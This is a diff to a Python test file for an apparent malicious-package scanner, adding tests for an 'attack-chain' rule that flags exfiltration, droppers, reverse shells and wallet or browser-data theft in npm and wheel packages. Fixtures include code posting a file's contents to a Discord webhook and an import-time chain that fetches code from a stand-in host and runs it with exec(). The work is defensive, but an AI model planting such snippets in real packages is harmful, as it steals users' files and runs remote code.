@@ -7,10 +7,16 @@ import pytest
 from pratique.analysis.chains import TEMPLATES
 from pratique.analysis.chains.chain import Chain, ChainFamily, Link
 from pratique.analysis.context import Context
-from pratique.analysis.rules.attack_chain import CERTAIN_BY_FLOW, CERTAIN_BY_SCOPE, attack_chain
+from pratique.analysis.hosts import HostClass
+from pratique.analysis.rules.attack_chain import (
+    CERTAIN_BY_FLOW,
+    CERTAIN_BY_SCOPE,
+    CERTAIN_IN_ALL,
+    attack_chain,
+)
 from pratique.core.finding import Severity
 from pratique.core.location import Location
-from tests.analysis.inspecting import npm, of_rule, package_json
+from tests.analysis.inspecting import npm, of_rule, package_json, wheel
 from tests.analysis.rules.test_behaves_like_malware import subject
 
 CHAIN = Chain(
@@ -54,7 +60,7 @@ def test_weaker_chains_stay_quiet(changes: dict[str, object]) -> None:
 
 
 def test_the_lists_name_templates_that_exist() -> None:
-    assert CERTAIN_BY_FLOW | CERTAIN_BY_SCOPE <= {template.id for template in TEMPLATES}
+    assert CERTAIN_BY_FLOW | CERTAIN_BY_SCOPE | CERTAIN_IN_ALL <= {template.id for template in TEMPLATES}
 
 
 def test_a_download_that_is_run_as_code_at_install_is_held() -> None:
@@ -67,3 +73,86 @@ def test_a_download_that_is_run_as_code_at_install_is_held() -> None:
 def test_a_client_that_somebody_calls_stays_quiet() -> None:
     code = "exports.get = u => fetch(u).then(r => r.text());\n"
     assert [] == of_rule(npm({"index.js": code}), "attack-chain")
+
+
+def waiting(template: str, family: ChainFamily, kind: HostClass | None, **changes: object) -> Chain:
+    made = replace(
+        CHAIN, template=template, family=family, context=Context.CALLED, at_load=False, host_class=kind
+    )
+    return replace(made, **{"places": (Location("parcel/a.py", 4),), **changes})  # type: ignore[arg-type]
+
+
+_OUT, _IN, _SEEN = ChainFamily.EXFILTRATION, ChainFamily.DROPPER, ChainFamily.SURVEILLANCE
+
+
+@pytest.mark.parametrize(
+    "chain",
+    [
+        waiting("files-sent", _OUT, HostClass.RAW_IP),
+        waiting("identity-sent", _OUT, HostClass.TUNNEL, link=Link.SCOPE),
+        waiting("download-started", _IN, HostClass.FILE_DROP),
+        waiting("download-run-as-code", _IN, HostClass.UNKNOWN, context=Context.IMPORT),
+        waiting("download-run-as-code", _IN, HostClass.UNKNOWN, depth=1),
+        waiting("download-written-and-started", _IN, HostClass.CODE_HOST_RAW),
+        waiting("keys-sent", _SEEN, None, link=Link.SCOPE),
+        waiting("socket-to-shell", ChainFamily.REVERSE_SHELL, None, link=Link.SCOPE),
+        waiting("hidden-address-told", _OUT, HostClass.FREE_HOSTING, link=Link.FILE),
+    ],
+    ids=lambda chain: f"{chain.template} {chain.host_class}",
+)
+def test_python_that_waits_to_be_called_is_held_for_what_nobody_asks(chain: Chain) -> None:
+    assert [Severity.CRITICAL] == findings(chain)
+
+
+@pytest.mark.parametrize(
+    "chain",
+    [
+        waiting("files-sent", _OUT, HostClass.UNKNOWN),
+        waiting("files-sent", _OUT, HostClass.WEBHOOK),
+        waiting("files-sent", _OUT, HostClass.RAW_IP, link=Link.FILE),
+        waiting("files-sent", _OUT, HostClass.RAW_IP, places=(Location("a.js", 4),)),
+        waiting("download-run-as-code", _IN, HostClass.UNKNOWN),
+        waiting("download-written-and-started", _IN, HostClass.UNKNOWN, link=Link.SCOPE),
+        waiting("download-started", _IN, HostClass.UNKNOWN),
+        waiting("hidden-address-told", _OUT, HostClass.UNKNOWN, link=Link.FILE),
+        waiting("browser-data-taken", _SEEN, None),
+    ],
+    ids=lambda chain: f"{chain.template} {chain.host_class}",
+)
+def test_what_clients_and_tools_do_when_called_stays_quiet(chain: Chain) -> None:
+    assert [] == findings(chain)
+
+
+def test_what_goes_to_an_address_that_stands_in_an_encoding_alone_is_held() -> None:
+    sent = waiting("secrets-sent", _OUT, HostClass.UNKNOWN)
+    hidden = waiting("hidden-address-told", _OUT, HostClass.UNKNOWN, link=Link.FILE)
+    seen = replace(subject(None), chains=(sent, hidden))
+    assert ["secrets-sent, held together by flow"] == [
+        finding.evidence for finding in attack_chain.check(seen)
+    ]
+
+
+def test_browsers_and_wallets_together_are_held_wherever_they_stand() -> None:
+    browsers = waiting("browser-data-taken", _SEEN, None, link=Link.FILE)
+    wallets = waiting("wallets-sent", ChainFamily.WALLET, None, link=Link.FILE)
+    seen = replace(subject(None), chains=(browsers, wallets))
+    assert ["browser-data-taken, held together by file"] == [
+        finding.evidence for finding in attack_chain.check(seen)
+    ]
+
+
+def test_a_mailbox_counts_with_its_whole_address_only() -> None:
+    code = "import requests\ndef send(path):\n    requests.post('https://discord.com/api/webhooks/{}', data=open(path).read())\n"
+    whole = code.replace("{}", "1234567890123456789/inert_marker_inert_marker_42")
+    assert [] == of_rule(wheel({"parcel/__init__.py": code}), "attack-chain")
+    assert of_rule(wheel({"parcel/__init__.py": whole}), "attack-chain")
+
+
+def test_parts_in_several_files_that_run_at_load_are_held() -> None:
+    files = {
+        "parcel/__init__.py": "from .b import boot\nboot()\n",
+        "parcel/b.py": "from .c import get\ndef boot():\n    exec(get())\n",
+        "parcel/c.py": "import requests\ndef get():\n    return requests.get('https://x.pratique.invalid/p').text\n",
+    }
+    found = of_rule(wheel(files), "attack-chain")
+    assert ["host-asked-and-code-run"] == [finding.evidence.partition(",")[0] for finding in found]
